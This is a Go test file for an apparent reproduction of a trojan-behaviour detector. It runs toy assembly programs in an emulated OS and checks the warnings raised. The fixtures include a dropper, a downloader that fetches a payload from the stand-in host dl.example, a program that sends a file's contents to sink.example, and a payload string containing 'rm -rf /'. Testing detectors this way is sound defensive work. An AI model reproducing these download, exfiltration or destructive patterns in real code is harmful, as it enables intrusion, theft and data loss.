package hth_test

import (
	"strings"
	"testing"

	hth "repro"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// --- Cross-session history (paper §10 items 6 & 8) ---

const dropperSrc = `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat("/tmp/payload")
    int 0x80
    mov ebx, eax
    mov ecx, data
    mov edx, 8
    mov eax, 4
    int 0x80
    hlt
.data
f:    .asciz "/tmp/payload"
data: .asciz "DROPPED1"
`

// executor runs argv[1]; with a user-given name this is normally
// clean.
const executorSrc = `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
`

func TestCrossSessionExecveEscalation(t *testing.T) {
	hist := secpert.NewHistory()
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/dropper", dropperSrc)
	sys.MustInstallSource("/bin/executor", executorSrc)

	cfg := hth.DefaultConfig()
	cfg.Policy.History = hist

	// Session 1: the dropper creates /tmp/payload (High warning for
	// the hardcoded write; the file is recorded in history).
	res1, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/dropper"})
	if err != nil {
		t.Fatal(err)
	}
	if res1.CountAt(hth.High) == 0 {
		t.Fatal("dropper write not flagged")
	}
	if sess, ok := hist.WrittenIn("/tmp/payload"); !ok || sess != 1 {
		t.Fatalf("history recorded the write as (%d, %v), want session 1", sess, ok)
	}

	// The dropped "payload" must be executable for session 2; swap
	// in a real image at the same path.
	sys.MustInstallSource("/tmp/payload", ".text\n_start: hlt\n")

	// Session 2: executing /tmp/payload with a *user-given* name
	// would normally be clean; history escalates it to High.
	res2, err := sys.Run(cfg, hth.RunSpec{
		Path: "/bin/executor",
		Argv: []string{"/bin/executor", "/tmp/payload"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res2.Warnings) != 1 || res2.Warnings[0].Severity != hth.High {
		t.Fatalf("warnings = %v", res2.Warnings)
	}
	if !strings.Contains(res2.Warnings[0].Message, "previous session (session 1)") {
		t.Errorf("message = %q", res2.Warnings[0].Message)
	}
}

func TestCrossSessionWithoutHistoryStaysClean(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/dropper", dropperSrc)
	sys.MustInstallSource("/bin/executor", executorSrc)
	cfg := hth.DefaultConfig() // no history
	if _, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/dropper"}); err != nil {
		t.Fatal(err)
	}
	sys.MustInstallSource("/tmp/payload", ".text\n_start: hlt\n")
	res, err := sys.Run(cfg, hth.RunSpec{
		Path: "/bin/executor",
		Argv: []string{"/bin/executor", "/tmp/payload"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) != 0 {
		t.Fatalf("warnings without history = %v", res.Warnings)
	}
}

func TestApprovedWarningSuppressed(t *testing.T) {
	hist := secpert.NewHistory()
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/ls", ".text\n_start: hlt\n")
	sys.MustInstallSource("/bin/tool", `
.text
_start:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    mov eax, 11
    int 0x80
    hlt
.data
prog: .asciz "/bin/ls"
`)
	cfg := hth.DefaultConfig()
	cfg.Policy.History = hist

	res1, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/tool"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res1.Warnings) != 1 {
		t.Fatalf("warnings = %v", res1.Warnings)
	}
	// The user reviews the warning and allows the behaviour.
	hist.Approve(&res1.Warnings[0])

	res2, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/tool"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res2.Warnings) != 0 {
		t.Fatalf("approved warning repeated: %v", res2.Warnings)
	}
	if res2.Secpert.Suppressed() != 1 {
		t.Errorf("suppressed = %d", res2.Secpert.Suppressed())
	}
}

// --- Memory abuse (paper §10 item 4) ---

func TestMemoryAbuseRule(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/hog", `
.text
_start:
    ; grow the heap in 1 MiB steps up to 32 MiB
    mov eax, 45         ; brk(0): query
    mov ebx, 0
    int 0x80
    mov esi, eax
    mov edi, 32
grow:
    add esi, 0x100000
    mov ebx, esi
    mov eax, 45         ; brk(new)
    int 0x80
    dec edi
    jnz grow
    hlt
`)
	cfg := hth.DefaultConfig()
	cfg.Policy.EnableMemoryAbuse = true
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/hog"})
	if err != nil {
		t.Fatal(err)
	}
	var low, medium int
	for _, w := range res.Warnings {
		if w.Rule != "check_memory_abuse" {
			t.Errorf("unexpected rule %q", w.Rule)
		}
		switch w.Severity {
		case hth.Low:
			low++
		case hth.Medium:
			medium++
		}
	}
	if low != 1 || medium != 1 {
		t.Fatalf("memory warnings low=%d medium=%d: %v", low, medium, res.Warnings)
	}
	if !strings.Contains(res.Warnings[0].Message, "memory allocation") {
		t.Errorf("message = %q", res.Warnings[0].Message)
	}
}

func TestMemoryAbuseDisabledByDefault(t *testing.T) {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/hog", `
.text
_start:
    mov ebx, 0x22000000
    mov eax, 45
    int 0x80
    hlt
`)
	res, err := sys.Run(hth.DefaultConfig(), hth.RunSpec{Path: "/bin/hog"})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Warnings) != 0 {
		t.Fatalf("warnings = %v", res.Warnings)
	}
}

// --- Content analysis (paper §10 item 5) ---

type payloadServer struct{ payload string }

func (s payloadServer) OnConnect(c *vos.RemoteConn)  { c.Send([]byte(s.payload)) }
func (payloadServer) OnData(*vos.RemoteConn, []byte) {}

const downloaderSrc = `
.text
_start:
    mov eax, 102
    mov ebx, 1          ; socket
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov [scargs+4], srv
    mov eax, 102
    mov ebx, 3          ; connect
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 32
    mov eax, 102
    mov ebx, 10         ; recv
    mov ecx, scargs
    int 0x80
    mov esi, eax
    ; drop it: the file name comes from argv[1] (user) so without
    ; content analysis this is only a Low warning
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov eax, 8          ; creat
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, esi
    mov eax, 4          ; write
    int 0x80
    hlt
.data
srv:    .asciz "dl.example:80"
buf:    .space 32
scargs: .space 12
`

func runDownloader(t *testing.T, payload string, analysis bool) *hth.Result {
	t.Helper()
	sys := hth.NewSystem()
	sys.AddRemote("dl.example:80", func() vos.RemoteScript {
		return payloadServer{payload: payload}
	})
	sys.MustInstallSource("/bin/dl", downloaderSrc)
	cfg := hth.DefaultConfig()
	cfg.Policy.EnableContentAnalysis = analysis
	res, err := sys.Run(cfg, hth.RunSpec{
		Path: "/bin/dl",
		Argv: []string{"/bin/dl", "out.bin"},
	})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

func TestContentAnalysisEscalatesExecutables(t *testing.T) {
	for _, payload := range []string{"\x7fELF\x01\x01\x01payload", "#!/bin/sh\nrm -rf /", "MZ\x90\x00stub"} {
		res := runDownloader(t, payload, true)
		if len(res.Warnings) != 1 || res.Warnings[0].Severity != hth.High {
			t.Fatalf("payload %q: warnings = %v", payload[:4], res.Warnings)
		}
		if !strings.Contains(res.Warnings[0].Message, "appears to be executable") {
			t.Errorf("message = %q", res.Warnings[0].Message)
		}
	}
}

func TestContentAnalysisIgnoresPlainData(t *testing.T) {
	res := runDownloader(t, "just a text file", true)
	if len(res.Warnings) != 1 || res.Warnings[0].Severity != hth.Low {
		t.Fatalf("warnings = %v", res.Warnings)
	}
}

func TestContentAnalysisOffByDefault(t *testing.T) {
	res := runDownloader(t, "\x7fELF\x01\x01\x01payload", false)
	if len(res.Warnings) != 1 || res.Warnings[0].Severity != hth.Low {
		t.Fatalf("warnings = %v", res.Warnings)
	}
}

// --- Simultaneous sessions (paper §10 item 7) ---

func TestSimultaneousSessionsShareProvenance(t *testing.T) {
	sys := hth.NewSystem()
	// Program A creates /tmp/shared with a hardcoded name.
	sys.MustInstallSource("/bin/a", `
.text
_start:
    mov ebx, f
    mov eax, 8          ; creat (records the hardcoded origin)
    int 0x80
    mov ebx, eax
    mov ecx, d
    mov edx, 4
    mov eax, 4
    int 0x80
    hlt
.data
f: .asciz "/tmp/shared"
d: .asciz "DATA"
`)
	// Program B reads the same file via argv (user name from B's
	// point of view) and sends it to a user-named socket: on its own
	// this is (user, user) = clean, but the *shared* session knows
	// program A hardcoded the file's name.
	sys.MustInstallSource("/bin/b", `
.text
_start:
    mov ebp, [esp+4]
    mov ebx, [ebp+4]
    mov ecx, 0
    mov eax, 5          ; open(argv[1])
    int 0x80
    mov ebx, eax
    mov ecx, buf
    mov edx, 4
    mov eax, 3
    int 0x80
    mov eax, 102
    mov ebx, 1
    mov ecx, scargs
    int 0x80
    mov [scargs], eax
    mov eax, [ebp+8]
    mov [scargs+4], eax ; connect(argv[2])
    mov eax, 102
    mov ebx, 3
    mov ecx, scargs
    int 0x80
    mov [scargs+4], buf
    mov [scargs+8], 4
    mov eax, 102
    mov ebx, 9          ; send
    mov ecx, scargs
    int 0x80
    hlt
.data
buf:    .space 4
scargs: .space 12
`)
	sys.AddRemote("sink.example:80", func() vos.RemoteScript { return payloadServer{} })

	sn := sys.NewSession(hth.DefaultConfig())
	if _, err := sn.Start(hth.RunSpec{Path: "/bin/a"}); err != nil {
		t.Fatal(err)
	}
	if _, err := sn.Start(hth.RunSpec{
		Path: "/bin/b",
		Argv: []string{"/bin/b", "/tmp/shared", "sink.example:80"},
	}); err != nil {
		t.Fatal(err)
	}
	res, err := sn.Wait()
	if err != nil {
		t.Fatal(err)
	}
	// A's hardcoded write produces its High; the cross-program
	// correlation produces a file→socket warning from B's write,
	// which B alone could not have classified.
	found := false
	for _, w := range res.Warnings {
		if strings.Contains(w.Message, "Data Flowing From: /tmp/shared To: sink.example:80") {
			found = true
			if !strings.Contains(w.Message, "source filename was hardcoded in:") {
				t.Errorf("correlation lost provenance: %q", w.Message)
			}
		}
	}
	if !found {
		t.Fatalf("cross-program flow not detected: %v", res.Warnings)
	}
}

func TestSessionWaitWithoutStart(t *testing.T) {
	sys := hth.NewSystem()
	if _, err := sys.NewSession(hth.DefaultConfig()).Wait(); err == nil {
		t.Error("empty session Wait succeeded")
	}
}
